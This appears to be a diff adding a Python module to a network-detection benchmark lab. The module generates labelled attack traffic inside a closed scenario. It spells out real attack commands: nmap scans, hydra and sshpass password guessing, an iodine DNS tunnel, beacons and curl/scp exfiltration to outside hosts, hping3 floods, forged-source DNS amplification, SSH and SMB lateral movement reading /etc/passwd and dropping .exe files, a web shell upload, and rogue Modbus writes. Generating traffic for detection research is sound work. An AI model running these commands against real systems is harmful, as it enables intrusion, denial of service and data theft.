@@ -1,0 +1,307 @@
+"""What attackers do, by ordinary tools, only ever to hosts of the same scenario."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable, Iterator
+
+from benchmarks.lab.habits import Occasion
+from benchmarks.lab.scenario import Attack
+from benchmarks.lab.services import PROGRAMS, tunnel_domain
+from benchmarks.lab.world import Step
+
+Plan = Callable[[Occasion, Attack, float], Iterator[Step]]  # the last one: seconds that it may last
+
+
+def port_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Many ports of two servers, by whole connections, so that the kernel's own TCP speaks."""
+    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
+    targets = o.rng.sample(servers, k=min(2, len(servers)))
+    ports = str(int(150 * attack.pace))
+    yield o.step("port-scan", "nmap", "-sT", "-n", "-Pn", "-T4", "--top-ports", ports, *targets, limit=lasts)
+
+
+def host_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """A few ports of every address."""
+    yield o.step("host-scan", "nmap", "-sT", "-n", "-Pn", "-T4", "--max-retries", "1", "-p", "22,445,3389", o.world.scenario.network, limit=lasts)  # fmt: skip
+
+
+def slow_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """One port now and then: below every rate threshold."""
+    targets = [h.address for h in o.world.hosts if h.inside and h.name != o.actor.host]
+    ports = (21, 22, 23, 25, 80, 110, 139, 143, 389, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080)
+    after = 0.0
+    while after < lasts:
+        yield o.step("slow-scan", "nc", "-z", "-w", "2", o.rng.choice(targets), str(o.rng.choice(ports)), after=after)
+        after += o.rng.uniform(2.0, 8.0) / attack.pace
+
+
+def ssh_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Half by hydra, half by a plain loop of the ordinary client."""
+    if not (found := o.server("ssh")):
+        return
+    words = [f"{stem}{n}" for stem in ("password", "qwerty", "summer", "admin", "letmein") for n in range(40)]
+    people = [a.name for a in o.world.actors]
+    name = o.rng.choice(people)
+    listed = o.world.run.state / "files" / f"words-{o.actor.gid}"
+    if listed.parent.is_dir():
+        listed.write_text("\n".join(words[: int(24 * attack.pace)]) + "\n", encoding="utf-8")
+    yield o.step("ssh-guessing", "hydra", "-q", "-I", "-t", "4", "-l", name, "-P", str(listed), f"ssh://{found[0].address}", limit=lasts / 2)
+    after = lasts / 2
+    while after < lasts - 1:
+        options = ("-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no")
+        target = f"{o.rng.choice((name, 'root', 'admin', o.rng.choice(people)))}@{found[1]}"
+        yield o.step("ssh-guessing", "sshpass", "-p", o.rng.choice(words), "ssh", *options, target, "id", after=after)
+        after += o.rng.uniform(0.7, 2.0) / attack.pace
+
+
+def web_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Passwords of a page that asks for one."""
+    sites = o.world.sites(inside=True)
+    people = [a.name for a in o.world.actors]
+    after = 0.0
+    while sites and after < lasts:
+        who = f"{o.rng.choice(people)}:{o.rng.choice(('password', 'secret', 'winter'))}{o.rng.randrange(99)}"
+        yield o.curl("web-guessing", "-u", who, "-o", "/dev/null", f"https://{sites[0]}/private/p0.html", after=after)
+        after += o.rng.uniform(0.2, 0.9) / attack.pace
+
+
+def mail_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Passwords of mail boxes."""
+    people = [a.name for a in o.world.actors]
+    after = 0.0
+    found = o.server("mail")
+    while found and after < lasts:
+        who = f"{o.rng.choice(people)}:{o.rng.choice(('password', 'secret', 'winter'))}{o.rng.randrange(99)}"
+        yield o.curl("mail-guessing", "-u", who, "-X", "NOOP", f"imaps://{found[1]}/INBOX", after=after)
+        after += o.rng.uniform(0.4, 1.5) / attack.pace
+
+
+def dns_tunnel(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """iodine through the site's own resolver, and work done through it."""
+    domain = tunnel_domain(o.world)
+    resolver = o.world.offering("resolver")[0].address
+    tunnel = o.step("dns-tunnel", "iodine", "-f", "-r", "-m", "220", "-I", "8", "-P", "quiet-river", "-d", "tun7", resolver, domain, limit=lasts)
+    yield _as_root(tunnel)
+    after = lasts * 0.3
+    while after < lasts - 5:
+        yield o.step("dns-tunnel", "curl", "-s", "-m", "20", "-o", "/dev/null", f"http://10.199.0.1/p{o.rng.randrange(4)}.html", after=after)
+        after += o.rng.uniform(8, 16) / attack.pace
+
+
+def _beacon(o: Occasion, attack: Attack, lasts: float, scheme: str) -> Iterator[Step]:
+    """Asks for orders at intervals with jitter; now and then an answer goes back."""
+    site = o.rng.choice(o.world.bad_sites() or o.world.sites(inside=False))
+    mean = 5.0 / attack.pace
+    after = 0.0
+    path = o.rng.choice(("a0", "a1", "p3.html"))
+    while after < lasts:
+        if o.rng.random() < 0.2:
+            body = ("-d", "r=" + "".join(o.rng.choices("abcdef0123456789", k=o.rng.randrange(200, 900))))
+        else:
+            body = ("-H", f"Cookie: id={o.rng.getrandbits(128):032x}")
+        yield o.curl(attack.kind, "-o", "/dev/null", *body, f"{scheme}://{site}/{path}", after=after)
+        after += mean * o.rng.uniform(0.7, 1.3)
+
+
+def beacon_tls(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    yield from _beacon(o, attack, lasts, "https")
+
+
+def beacon_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    yield from _beacon(o, attack, lasts, "http")
+
+
+def dns_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Orders asked for in host names."""
+    domain = (o.world.bad_sites() or ["www.fastsync.example"])[0].split(".", 1)[1]
+    after = 0.0
+    while after < lasts:
+        name = f"{''.join(o.rng.choices('abcdefghijklmnopqrstuvwxyz234567', k=o.rng.randrange(12, 32)))}.{domain}"
+        yield o.step("dns-beacon", "dig", "+tries=1", "+time=2", name, o.rng.choice(("A", "TXT")), after=after)
+        after += o.rng.uniform(3.0, 6.0) / attack.pace
+
+
+def upload_tls(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Everything at once, to a rented server."""
+    site = (o.world.bad_sites() or o.world.sites(inside=False))[-1]
+    yield from _pieces(o, attack, lasts, f"https://{site}/files/")
+
+
+def slow_upload(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """A little at a time."""
+    site = (o.world.bad_sites() or o.world.sites(inside=False))[0]
+    after, number = 0.0, 0
+    while after < lasts:
+        yield o.curl("slow-upload", "-T", o.world.file(o.rng.choice((4, 16))), f"https://{site}/files/b{number % 9}", after=after)
+        after, number = after + o.rng.uniform(6.0, 14.0) / attack.pace, number + 1
+
+
+def _pieces(o: Occasion, attack: Attack, lasts: float, url: str) -> Iterator[Step]:
+    piece = min(attack.size_kb, 1024)
+    count = max(1, attack.size_kb // piece)
+    for number in range(count):
+        after = number * lasts / count
+        yield o.curl("upload-tls", "-T", o.world.file(piece), f"{url}{o.rng.getrandbits(32):08x}", after=after, limit=max(60.0, lasts))
+
+
+def upload_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    outside = o.world.offering("ssh", inside=False)
+    if outside:
+        target = f"{o.actor.name}@{o.rng.choice(outside).address}:loot"
+        yield o.step("upload-ssh", "scp", "-q", o.world.file(attack.size_kb), target, limit=max(60.0, lasts))
+
+
+def syn_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Half-open, by a raw socket that says what the kernel would say of TTL and window."""
+    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
+    targets = o.rng.sample(servers, k=min(2, len(servers)))
+    yield _as_root(o.step("syn-scan", "nmap", "-sS", "-n", "-Pn", "-T4", "--send-ip", "--ttl", "64", "--top-ports", str(int(100 * attack.pace)), *targets, limit=lasts))  # fmt: skip
+
+
+def udp_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
+    yield _as_root(o.step("udp-scan", "nmap", "-sU", "-n", "-Pn", "-T4", "--send-ip", "--ttl", "64", "--max-retries", "1", "--top-ports", str(int(40 * attack.pace)), o.rng.choice(servers), limit=lasts))  # fmt: skip
+
+
+def _as_root(step: Step) -> Step:
+    return Step(step.at, step.what, step.argv, step.limit, step.env, step.feed, root=True)
+
+
+def _flood(o: Occasion, attack: Attack, lasts: float, target: str, *argv: str) -> Iterator[Step]:
+    """At most 100 packets a second at pace 1, and 5,000 in all."""
+    pause = max(500, int(10_000 / attack.pace))
+    count = min(5_000, int(lasts * 1e6 / pause))
+    yield _as_root(o.step(attack.kind, "hping3", "-q", "-n", "--ttl", "64", "-i", f"u{pause}", "-c", str(count), *argv, target, limit=lasts))
+
+
+def syn_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    if found := o.server("web"):
+        ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
+        yield from _flood(o, attack, lasts, found[0].address, "-S", "-p", "443", "-w", "64240", "--tcp-mss", "1460", *ports)
+
+
+def udp_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    targets = [h.address for h in o.world.hosts if h.inside and h.name != o.actor.host]
+    ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
+    yield from _flood(o, attack, lasts, o.rng.choice(targets), "-2", "-p", o.rng.choice(("53", "123", "8080")), "-d", str(o.rng.randrange(60, 900)), *ports)
+
+
+def amplification(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Questions to our resolver in the victim's name: the address is forged, but inside the laboratory."""
+    victims = [h.address for h in o.world.hosts if h.name != o.actor.host and "resolver" not in h.services]
+    question = o.world.run.state / "files" / f"question-{o.actor.gid}"
+    name = o.world.sites(inside=False)[0].split(".", 1)[1]
+    body = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01" + b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    body += b"\x00\x00\xff\x00\x01" + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
+    if question.parent.is_dir():
+        question.write_bytes(body)
+    resolver = o.world.offering("resolver")[0].address
+    ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
+    yield from _flood(o, attack, lasts, resolver, "-2", "-p", "53", "-a", o.rng.choice(victims), "-d", str(len(body)), "-E", str(question), *ports)  # fmt: skip
+
+
+def slow_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    if found := o.server("web"):
+        yield o.step("slow-http", "slowhttptest", "-H", "-c", str(int(60 * attack.pace)), "-r", "10", "-i", "5", "-l", str(int(lasts)), "-u", f"http://{found[0].address}/p0.html", limit=lasts + 5)  # fmt: skip
+
+
+def lateral_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """From server to server with a stolen key, looking around and carrying files off."""
+    servers = [o.world.name_of(h) for h in o.world.offering("ssh", inside=True) if h.name != o.actor.host]
+    after = 0.0
+    while len(servers) > 1 and after < lasts:
+        first, second = o.rng.sample(servers, k=2)
+        order = o.rng.choice((
+            f"ssh {second} 'id; ls -la /home /etc; cat /etc/passwd'", f"scp -q /etc/services {second}:s", f"ssh {second} hostname; nc -z -w 2 {second} 5432",
+            f"for p in 22 80 445 3306 5432; do nc -z -w 1 {second} $p; done", f"curl -s -m 9 -T /etc/services http://{second}/x; ssh {second} uptime",
+        ))  # fmt: skip
+        yield o.step("lateral-ssh", "ssh", f"{o.actor.name}@{first}", order, after=after, limit=40)
+        after += o.rng.uniform(4.0, 15.0) / attack.pace
+
+
+def lateral_smb(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """The same stolen or guessed passwords on every share, then a program left there."""
+    people = [a.name for a in o.world.actors]
+    hosts = [h for h in o.world.hosts if h.inside and h.name != o.actor.host]
+    shares = o.world.offering("share", inside=True)
+    after = 0.0
+    while after < lasts:
+        host = o.rng.choice(shares) if shares and o.rng.random() < 0.7 else o.rng.choice(hosts)
+        name = o.rng.choice(people)
+        word = o.world.password(name) if o.rng.random() < 0.3 else f"Winter{o.rng.randrange(2020, 2027)}"
+        order = o.rng.choice(("ls", f"put {o.world.file(16)} svc{o.rng.randrange(99)}.exe", "recurse; ls"))
+        yield o.step("lateral-smb", "smbclient", f"//{host.address}/public", "-U", f"{name}%{word}", "-c", order, after=after, limit=20)
+        after += o.rng.uniform(1.0, 6.0) / attack.pace
+
+
+def web_shell(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """A script left on a web server, and orders sent to it."""
+    hosts = [h for h in o.world.offering("api") if h.name != o.actor.host]
+    if not hosts:
+        return
+    host = o.rng.choice(hosts)
+    first = (host.sites or ("www",))[0]
+    site = f"{first}.{o.world.scenario.domain}" if host.inside else first
+    yield o.curl("web-shell", "-T", o.world.file(4), f"https://{site}/files/help{o.rng.randrange(99)}.php")
+    after = 3.0
+    while after < lasts:
+        order = "".join(o.rng.choices("ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/", k=o.rng.choice((24, 60, 200, 1500))))
+        yield o.curl("web-shell", "-o", "/dev/null", "-d", f"z0={order}", f"{o.rng.choice(('https', 'http'))}://{site}/api/help.php", after=after)
+        after += o.rng.lognormvariate(1.2, 0.7) / attack.pace
+
+
+def modbus_writes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Values that no operator would set."""
+    after = 0.0
+    while (found := o.server("modbus")) and after < lasts:
+        argv = ("/usr/bin/python3", str(PROGRAMS / "poll.py"), "flood", found[0].address, str(o.rng.choice((3, 10, 40))), "0.2", str(o.rng.random()))
+        yield o.step("modbus-writes", *argv, after=after, limit=30)
+        after += o.rng.uniform(4.0, 20.0) / attack.pace
+
+
+def junk_bytes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Bytes that no protocol knows, and TCP flags that no kernel sets."""
+    servers = [h for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
+    after = 0.0
+    while after < lasts:
+        host = o.rng.choice(servers)
+        port = str(o.rng.choice((22, 25, 53, 80, 443, 445, 502, 1883, 5432)))
+        if o.rng.random() < 0.2:
+            argv = ("hping3", "-q", "-n", "--ttl", "64", "-w", "64240", "-c", "3", *o.rng.choice((("-F", "-P", "-U"), ("-S", "-F"), ("-A", "-R"))), "-p", port, host.address)  # fmt: skip
+            yield _as_root(o.step("junk-bytes", *argv, after=after))
+        else:
+            junk = "".join(chr(o.rng.randrange(1, 256)) for _ in range(int(o.rng.lognormvariate(4, 1.5)) + 1))
+            yield o.step("junk-bytes", "nc", "-N", "-w", "2", host.address, port, after=after, feed=junk)
+        after += o.rng.uniform(0.5, 4.0) / attack.pace
+
+
+ATTACKS: dict[str, Plan] = {
+    "port-scan": port_scan, "host-scan": host_scan, "slow-scan": slow_scan, "ssh-guessing": ssh_guessing,
+    "web-guessing": web_guessing, "mail-guessing": mail_guessing, "dns-tunnel": dns_tunnel,
+    "beacon-tls": beacon_tls, "beacon-http": beacon_http, "dns-beacon": dns_beacon, "upload-tls": upload_tls,
+    "slow-upload": slow_upload, "upload-ssh": upload_ssh, "syn-scan": syn_scan, "udp-scan": udp_scan,
+    "syn-flood": syn_flood, "udp-flood": udp_flood, "amplification": amplification, "slow-http": slow_http,
+    "lateral-ssh": lateral_ssh, "lateral-smb": lateral_smb, "web-shell": web_shell,
+    "modbus-writes": modbus_writes, "junk-bytes": junk_bytes,
+}  # fmt: skip
+FAMILIES = {
+    "port-scan": "scan-port-tcp", "host-scan": "scan-host", "slow-scan": "scan-slow", "syn-scan": "scan-port-tcp",
+    "udp-scan": "scan-port-udp", "ssh-guessing": "ssh-bruteforce", "web-guessing": "web-bruteforce",
+    "mail-guessing": "mail-bruteforce", "dns-tunnel": "dns-tunnel-iodine", "dns-beacon": "beacon-dns",
+    "beacon-tls": "beacon-tls", "beacon-http": "beacon-http", "upload-tls": "exfiltration-tls",
+    "upload-ssh": "exfiltration-ssh", "slow-upload": "exfiltration-slow", "slow-http": "ddos-slow-http",
+    "syn-flood": "ddos-synflood", "udp-flood": "ddos-udpflood", "amplification": "ddos-dns-amplification",
+    "lateral-ssh": "lateral-ssh", "lateral-smb": "lateral-smb", "web-shell": "webshell-plain",
+    "modbus-writes": "modbus-fake-command", "junk-bytes": "malformed",
+}  # fmt: skip
+TOOLS = {
+    "port-scan": ("nmap",), "host-scan": ("nmap",), "ssh-guessing": ("hydra", "sshpass"), "dns-tunnel": ("iodine",),
+    "syn-scan": ("nmap",), "udp-scan": ("nmap",), "syn-flood": ("hping3",), "udp-flood": ("hping3",),
+    "amplification": ("hping3",), "slow-http": ("slowhttptest",), "lateral-smb": ("smbclient",),
+}  # fmt: skip
+
+
+def rng_of(seed: int, attack: Attack, number: int) -> random.Random:
+    """One attack's own dice, so that a change of one leaves the others as they were."""
+    return random.Random(f"{seed}/attack/{number}/{attack.kind}/{attack.host}")
